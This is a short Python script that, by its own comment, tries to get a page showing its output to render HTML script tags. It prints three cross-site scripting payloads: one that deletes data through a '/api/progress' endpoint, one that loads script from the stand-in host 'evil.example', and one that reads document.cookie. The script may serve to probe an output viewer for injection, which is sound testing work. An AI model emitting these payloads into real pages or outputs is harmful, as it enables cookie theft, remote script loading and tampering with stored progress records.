# Tries: print HTML <script> tags, hoping the page that shows the output renders them as markup.
import asyncio


async def main():
    print("<script>document.title = 'owned'; fetch('/api/progress', {method: 'DELETE'})</script>")
    print("</pre><script src=//evil.example/x.js></script><pre>")
    print('"><svg onload=alert(document.cookie)>')


asyncio.run(main())
